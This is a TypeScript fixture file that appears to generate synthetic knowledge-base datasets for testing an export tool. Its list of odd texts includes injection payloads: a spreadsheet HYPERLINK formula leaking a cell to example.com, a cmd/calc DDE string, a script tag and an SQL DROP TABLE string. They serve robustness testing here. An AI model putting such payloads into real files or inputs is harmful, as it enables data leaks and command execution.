import { accounts, type Chunk, characters, stableId } from "../rows.js";
import { english, type Language, languages, randomFrom, sentences, type Topic } from "./prose.js";

export interface DatasetOutline {
  readonly name: string;
  readonly description: string;
  /** Economy datasets do not count tokens. */
  readonly technique: "high_quality" | "economy";
  readonly documents: readonly DocumentOutline[];
  /** The batches in which the documents were created, by their names above. */
  readonly batches: readonly {
    readonly id: string;
    readonly documents: readonly string[];
    readonly underWay: boolean;
  }[];
}

export interface DocumentOutline {
  /** A file name, unique in its dataset, because ids derive from it. */
  readonly name: string;
  readonly form: "text_model" | "qa_model" | "hierarchical_model";
  readonly topic: Topic;
  /** The languages of the chunks, in turn; default: the languages of the sample. */
  readonly languages?: readonly Language[];
  readonly chunkCount: number;
  /** The number of child chunks of a chunk (numbered from 1); absent: none. */
  readonly childCount?: (number: number) => number;
  /** Whether chunks embed their children, as with paragraph parents. */
  readonly embedsChildren?: boolean;
  /** Contents to use verbatim instead of prose. */
  readonly texts?: readonly string[];
  readonly peculiarities?: readonly Peculiarity[];
  /** Whether times have a fraction of a second. */
  readonly fractionalTimes?: boolean;
  /** Why the document could not be indexed. */
  readonly error?: string;
}

type Peculiarity = (chunk: Chunk, number: number) => Chunk;

const tooLong = "Embedding failed: the input is too long";

const disabledAt = Date.UTC(2025, 4, 1, 8) / 1000;

/** Adds links to files to some contents; some links are directly followed by another. */
const withLinks: Peculiarity = (chunk, number) => {
  if (number % 12 !== 0) return chunk;
  const file = `/files/${stableId(`${chunk.id}/figure`)}`;
  const links = [
    `![Figure ${number}](${file}/image-preview)`,
    `[Data sheet](${file}/file-preview)`,
    `[Download](${file}/file-preview) or see ![Figure ${number}](${file}/image-preview)`,
    `https://kb.example.com${file}/image-preview${file}/file-preview`,
  ];
  const content = `${chunk.content}\n\n${links[(number / 12) % links.length]}`;
  return { ...chunk, content, sign_content: content, word_count: characters(content) };
};

/** Adds attached files to some chunks, to some of them two. */
const withAttachments: Peculiarity = (chunk, number) => {
  if (number % 10 !== 3) return chunk;
  const attachments = Array.from({ length: number % 20 === 3 ? 2 : 1 }, (_, index) => {
    const id = stableId(`${chunk.id}/attachment/${index}`);
    const name = `Wiring "${number}", sheet ${index + 1}.png`;
    const source_url = `/files/${id}/${index === 0 ? "file-preview" : "image-preview"}`;
    return { id, name, size: 20_480 + number, extension: "png", mime_type: "image/png", source_url };
  });
  return { ...chunk, attachments };
};

/** Adds summaries: a string to some chunks, an object to a few. */
const withSummaries: Peculiarity = (chunk, number) => {
  if (number % 8 !== 5) return chunk;
  const text = `In short: ${chunk.content.slice(0, 40)}`;
  return { ...chunk, summary: number % 40 === 21 ? { text, model: "summary-small", tokens: 12 } : text };
};

/** Makes some chunks edited and some disabled. */
const withEdits: Peculiarity = (chunk, number) => {
  if (number % 50 === 7) return { ...chunk, enabled: false, disabled_at: disabledAt, disabled_by: accounts.editor };
  return number % 20 === 9 ? { ...chunk, updated_at: disabledAt, updated_by: accounts.editor } : chunk;
};

/** Sets fields to null for which the documentation promises a value. */
const withNulls: Peculiarity = (chunk, number) =>
  number % 9 === 4 ? { ...chunk, answer: null, keywords: null, index_node_id: null, index_node_hash: null } : chunk;

/** Empties `sign_content`. */
const withoutSignedCopy: Peculiarity = (chunk) => ({ ...chunk, sign_content: "" });

/** Adds a field that no documentation of the service mentions. */
const withLanguageHint: Peculiarity = (chunk, number) =>
  number % 3 === 0 ? { ...chunk, language_hint: languages[(number - 1) % languages.length]?.tag } : chunk;

/** Removes the fields that older servers lacked: signed copies, embedded children, attachments and summaries. */
const asOlderServer: Peculiarity = (chunk) => {
  const { sign_content, updated_at, updated_by, child_chunks, attachments, summary, ...older } = chunk;
  return { ...older, answer: null };
};

/** Gives the chunks every status in turn. A chunk that is being replaced has the same position as its replacement. */
const inEveryStatus: Peculiarity = (chunk, number) => {
  const unfinished = { index_node_hash: null, completed_at: null };
  const rateLimit = { code: "rate_limit", retry_after: 1.5, detail: [null, "\n"] };
  const states: readonly Partial<Chunk>[] = [
    {},
    { ...unfinished, status: "waiting", indexing_at: null },
    { ...unfinished, status: "indexing" },
    { ...unfinished, status: "error", error: tooLong, stopped_at: disabledAt },
    { ...unfinished, status: "error", error: rateLimit },
    { status: "re_segment", position: number + 1 },
  ];
  return { ...chunk, ...states[number % 8] };
};

const policy = { form: "text_model", topic: "policy" } as const;

/** The second dataset: plain text only, long and short documents, older rows, and a failed import. */
const companyHandbook: DatasetOutline = {
  name: "Company handbook",
  description: "Rules for work, leave and travel, in the languages of all offices.",
  technique: "economy",
  documents: [
    { ...policy, name: "Employee handbook.docx", chunkCount: 1180, peculiarities: [withEdits] },
    { ...policy, name: "Travel and expenses.pdf", chunkCount: 300 },
    { ...policy, name: "Announcements.txt", chunkCount: 0 },
    {
      ...{ ...policy, name: "Handbook of 2019.docx", languages: [english], chunkCount: 250 },
      peculiarities: [withNulls, asOlderServer],
    },
    { ...policy, name: "Works agreements.pdf", chunkCount: 200, fractionalTimes: true },
    { ...policy, name: "Interrupted import.csv", chunkCount: 64, peculiarities: [inEveryStatus], error: tooLong },
  ],
  batches: [
    { id: "20250602093000654321", documents: ["Employee handbook.docx", "Travel and expenses.pdf"], underWay: true },
    { id: "import/März 2025 #3? 100%", documents: ["Announcements.txt", "Interrupted import.csv"], underWay: false },
  ],
};

/** Contents that break careless exports, all seen in real documents. None contains NUL, which a database would reject. */
const oddTexts = [
  "",
  // Line breaks
  "first line\nsecond line\n\nfourth line\n",
  "an old Mac file\rwhere lines end like this\r",
  "a Windows file\r\nwhere lines end like this\r\n",
  "mixed\nends\rof\r\nlines\n\r",
  "a line separator\u2028and a paragraph separator\u2029 that are no line breaks in JSON",
  "a next-line character\u0085 and a form feed\f and a vertical tab\v",
  "\n",
  // Quotes and commas
  'She asked: "Is this the last page?" He said: "No."',
  '"quoted from end to end"',
  ...['""', '"'],
  "commas, more commas,, and a last one,",
  'id,name\n1,"Smith, ""Bob"""\n',
  "semicolons; tabs\tand | pipes",
  "it's 'single' `back` and „German“ «French» 「日本語」 quotes",
  "a backslash \\ , an escaped one \\\\ , \\n and \\u0041 written out",
  // Formulas
  ...["=1+1", '=HYPERLINK("http://example.com/?leak="&A1,"Click me")', "+cmd|' /C calc'!A0", "-2", "@SUM(A1:A9)"],
  ...["\t=1+1", "\r=1+1", "＝1+1 with a full-width sign"],
  // Texts that look like other values
  ...["null", "NULL", "\\N", "true", "007", "1e5", "12345678901234567890", "2025-03-06T13:20:00Z"],
  ...["   spaces before and after   ", " "],
  '{"id": null, "data": [1, 2, 3]}',
  "$HOME %PATH% $1 %s {{template}}",
  // Scripts
  "emoji 😀 👍🏽 🏳️‍🌈 🇯🇵 and the family 👨‍👩‍👧‍👦, one sign of seven code points",
  "日本語の文章、中文內容、한국어 문장, and the rare 𠮷 outside the basic plane",
  "\u200fעברית עם \u202bסימני כיוון\u202c ו\u2067בידוד\u2069 בתוך English\u200e",
  "\u200fالعربية 123 مع English داخل السطر\u061c",
  "é as one and e\u0301 as two code points, Å and A\u030a, ﬁ ligature",
  "zero width: joi\u200dner, space\u200b, no-break\u00a0space, soft\u00adhyphen",
  "Z\u0351\u036b\u0343a\u0369\u0321l\u0348\u0333g\u0321\u0353o\u0329\u0327 text",
  // Control characters
  `every control character but NUL: ${codePoints(0x01, 0x1f)}${codePoints(0x7f, 0x9f)}`,
  "\ufeffstarts with a byte order mark",
  "noncharacters \ufffe \uffff and the replacement character \ufffd",
  // Markup
  "# Heading\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```ts\nconst x = `a`;\n```\n",
  "<script>alert('hello')</script> &amp; <b>bold</b> <!-- comment -->",
  "Robert'); DROP TABLE chunks;--",
  "word".repeat(2_000),
  sentences(randomFrom("a very long chunk"), english, "product", 2_048).join(" ").slice(0, 102_400),
];

function codePoints(first: number, last: number): string {
  return String.fromCodePoint(...Array.from({ length: last - first + 1 }, (_, index) => first + index));
}

const guideChildren = [250, 101, 100, 1, 0];
const hierarchical = { form: "hierarchical_model", topic: "product" } as const;

/** The first dataset: every document form, both kinds of parents, and contents that break exports. */
export const productKnowledge: DatasetOutline = {
  name: "Product knowledge",
  description: "Manuals, release notes and support answers for the heating control system.",
  technique: "high_quality",
  documents: [
    {
      ...{ ...hierarchical, name: "Administrator guide.docx", chunkCount: 600, embedsChildren: true },
      childCount: (number) => guideChildren[number - 1] ?? number % 4,
      peculiarities: [withLinks, withSummaries],
    },
    {
      ...{ ...hierarchical, name: "User manual.pdf", chunkCount: 740, embedsChildren: true },
      childCount: (number) => number % 3,
      peculiarities: [withAttachments, withEdits, withLanguageHint],
    },
    { ...hierarchical, name: "Release notes.md", languages: [english], chunkCount: 1, childCount: () => 250 },
    {
      ...{ ...hierarchical, name: "Installation leaflets.pdf", chunkCount: 40 },
      childCount: (number) => number % 25,
      peculiarities: [withLinks],
    },
    {
      ...{ name: "Answers of the support team.csv", form: "qa_model", topic: "support", chunkCount: 900 },
      peculiarities: [withoutSignedCopy, withEdits],
    },
    {
      ...{ name: "Troubleshooting.md", form: "text_model", topic: "product", chunkCount: 700 },
      childCount: (number) => (number % 10 === 0 ? 2 : 0),
      peculiarities: [withLinks, withAttachments, withSummaries, withNulls],
    },
    {
      ...{ ...hierarchical, name: "Contents that break exports.txt", languages: [english], embedsChildren: true },
      ...{ chunkCount: oddTexts.length, texts: oddTexts, childCount: () => 1 },
    },
  ],
  batches: [
    {
      id: "20250306120000123456",
      documents: ["Administrator guide.docx", "User manual.pdf", "Release notes.md", "Answers of the support team.csv"],
      underWay: false,
    },
  ],
};

export const outlines: readonly DatasetOutline[] = [productKnowledge, companyHandbook];
